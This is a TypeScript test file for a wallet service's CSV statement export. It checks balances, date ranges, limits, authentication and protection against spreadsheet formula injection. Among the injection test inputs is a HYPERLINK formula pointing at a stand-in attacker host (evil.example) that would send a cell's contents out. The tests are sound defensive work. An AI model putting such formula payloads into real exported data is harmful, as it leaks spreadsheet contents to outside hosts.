import { randomUUID } from 'node:crypto';
import { expect } from 'chai';
import fc from 'fast-check';
import { textField } from '../../presenters/statement.ts';
import { anyText } from '../support/any-text.ts';
import { expectProblem, until, useService } from '../support/client.ts';

type Line = Record<string, string>;

/** As RFC 4180 has it: quoted fields may hold commas, quotes and line breaks. */
const parseCsv = (text: string): string[][] => {
  const rows: string[][] = [];
  let row: string[] = [];
  for (const [, quoted, plain = '', end] of text.matchAll(
    /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g,
  )) {
    row.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
    if (end === ',') continue;
    rows.push(row);
    row = [];
  }
  return rows;
};

const linesOf = (text: string): Line[] => {
  const [names = [], ...rows] = parseCsv(text);
  return rows.map((row) => Object.fromEntries(names.map((name, n) => [name, row[n] ?? ''])));
};

describe("a wallet's statement", () => {
  const api = useService({ LIMIT_STATEMENT_ENTRIES: '12' });
  type Client = Awaited<ReturnType<typeof api.register>>;

  const statement = async (client: Client, query = ''): Promise<Line[]> => {
    const answer = await client.get<string>(`/api/balance/statement${query}`);
    expect(answer.status, answer.text).to.equal(200);
    expect(answer.headers.get('content-type')).to.match(/^text\/csv; charset=utf-8/);
    expect(answer.text.endsWith('\r\n')).to.equal(true);
    return linesOf(answer.text);
  };
  const shown = async (client: Client, lines: number): Promise<Line[]> => {
    await until(async () => (await statement(client)).length === lines + 2);
    return statement(client);
  };

  it('adds up from the opening to the closing balance, and says what the balance says', async () => {
    const client = await api.register();
    const { letter_id } = await client.send();
    await client.post(`/api/letters/${letter_id}/cancel`);
    const lines = await shown(client, 3);
    expect(Object.keys(lines[0] ?? {})).to.deep.equal([
      ...['time', 'id', 'type', 'amount', 'balance_after', 'letter_id', 'method', 'reference'],
    ]);
    expect(lines.map(({ type }) => type)).to.deep.equal([
      ...['opening_balance', 'credit', 'hold', 'release', 'closing_balance'],
    ]);
    let balance = Number(lines[0]?.balance_after);
    for (const line of lines.slice(1, -1)) {
      balance = Math.round((balance + Number(line.amount)) * 1e6) / 1e6;
      expect(Number(line.balance_after)).to.equal(balance);
    }
    const { available, transactions } = await client.balance();
    expect(Number(lines.at(-1)?.balance_after))
      .to.equal(balance)
      .and.to.equal(available);
    const ids = lines.slice(1, -1).map(({ id }) => id);
    expect(ids.reverse()).to.deep.equal(transactions.map(({ id }) => id));
    expect(lines[1]).to.include({
      method: 'test_grant',
      reference: 'test money',
      amount: '100.00',
    });
    expect(lines[2]).to.include({ letter_id });
  });

  it('opens at the first change without from', async () => {
    const client = await api.register();
    const [opening, credit] = await shown(client, 1);
    expect(opening?.time).to.equal(credit?.time);
    const none = await statement(client, '?to=2001-12-31');
    expect(none.map(({ time }) => time)).to.deep.equal([
      '2002-01-01T00:00:00.000Z',
      '2002-01-01T00:00:00.000Z',
    ]);
  });

  it('goes on in one period where the one before ended', async () => {
    const client = await api.register();
    await client.send();
    await client.send();
    const whole = await shown(client, 3);
    const middle = encodeURIComponent(whole[2]?.time ?? '');
    const before = await statement(client, `?to=${middle}`);
    const after = await statement(client, `?from=${middle}`);
    expect(before.at(-1)?.balance_after).to.equal(after[0]?.balance_after);
    expect([...before.slice(1, -1), ...after.slice(1, -1)]).to.deep.equal(whole.slice(1, -1));
    const today = String(whole[1]?.time).slice(0, 10);
    expect(await statement(client, `?from=${today}&to=${today}`)).to.have.length(5);
    const past = await statement(client, '?from=2001-01-01&to=2001-12-31');
    expect(past.map(({ balance_after }) => balance_after)).to.deep.equal(['0.00', '0.00']);
  });

  it('closes a period that is not over now, because the balance of a time to come is unknown', async () => {
    const client = await api.register();
    const begunAt = Date.now();
    const [opening, ...lines] = await statement(client, '?from=2026-01-01&to=9999-12-31');
    expect(opening?.time).to.equal('2026-01-01T00:00:00.000Z');
    const closing = Date.parse(lines.at(-1)?.time ?? '');
    expect(closing).to.be.within(begunAt, Date.now());
    const future = '?from=9998-01-01&to=9999-01-01';
    const refused = await client.get(`/api/balance/statement${future}`);
    const { detail } = expectProblem(refused, 422, 'validation_failed', '/query/from');
    expect(detail).to.equal('from must be before to, and not in the future.');
  });

  it('writes references so that no spreadsheet runs them', async () => {
    const client = await api.register('live');
    const { accounts } = api.service().service.foundation.commands;
    const reference = '=HYPERLINK("http://x","a"),b';
    await accounts.credit(
      client.account.account_id,
      { bucket: 'fiat', amountMicro: 5_000_000n, reference },
      { commandId: randomUUID(), actor: 'operator' },
    );
    const [, credit] = await shown(client, 1);
    expect(credit).to.include({ reference: `'${reference}`, method: 'operator' });
    const unseen = fc.string({ unit: fc.constantFrom(' ', '\u200b', '\ufeff', '\u2060', '\t') });
    const sign = fc.constantFrom('', ...'=+-@＝＋－＠');
    const end = fc.constantFrom('', ...';\t\n');
    const texts = fc.tuple(unseen, sign, anyText(), end, unseen, sign);
    fc.assert(
      fc.property(texts, (parts) => {
        const text = parts.join('');
        const field = textField(text);
        const [[parsed = ''] = []] = parseCsv(`${field}\r\n`);
        expect(parsed.replaceAll("'", '')).to.equal(text.replaceAll("'", ''));
        expect(parsed).not.to.match(/^[\s\u200b\u2060]*[=+\-@＝＋－＠]/);
      }),
    );
  });

  it('writes references so that no spreadsheet runs them that splits lines at semicolons or tabs', () => {
    for (const text of [
      'invoice 7;=HYPERLINK("https://evil.example/"&A1)',
      'invoice 7; @SUM(1)',
      'invoice 7;"=1+1"',
      'a;b;+1',
      'a\t-1',
      'a\n＝1',
    ]) {
      for (const cell of `1.00,,${textField(text)}`.split(/[;\t\n]/)) {
        expect(cell, text).not.to.match(/^[\s"]*[=+\-@＝]/);
      }
    }
    for (const text of ['a; b', 'a;b=c', 'a-1', 'DE;Köln']) expect(textField(text)).to.equal(text);
  });

  it('refuses periods that are none, and more entries than it may have', async () => {
    const client = await api.register();
    for (const query of [
      '?from=yesterday',
      '?from=2026-02-30',
      '?to=2026-02-30T10:00:00Z',
      '?to=2026-01-01T25:00:00Z',
      '?to=0000-01-01',
      '?to=1969-12-30',
      '?from=0001-01-01',
      '?from=1969-12-31T23:59:59Z',
      '?to=9999-12-31T23:59:59-05:00',
      '?since=2026-01-01',
    ])
      expectProblem(await client.get(`/api/balance/statement${query}`), 422, 'validation_failed');
    const all = await statement(client, '?from=1970-01-01&to=9999-12-31');
    expect(all.map(({ type }) => type)).to.deep.equal([
      ...['opening_balance', 'credit', 'closing_balance'],
    ]);
    expect(all[0]?.time).to.equal('1970-01-01T00:00:00.000Z');
    const turned = await client.get('/api/balance/statement?from=2026-02-01&to=2026-01-01');
    expectProblem(turned, 422, 'validation_failed');
    for (let n = 0; n < 12; n++) await client.send();
    await until(async () => (await client.get('/api/balance/statement')).status === 422);
    expectProblem(await client.get('/api/balance/statement'), 422, 'statement_too_long');
  });

  it('is of the account that asks, and of nobody without a credential', async () => {
    const other = await api.register();
    await other.send();
    expect(await shown(await api.register(), 1)).to.have.length(3);
    expectProblem(await api.call('GET', '/api/balance/statement'), 401, 'authentication_required');
  });
});
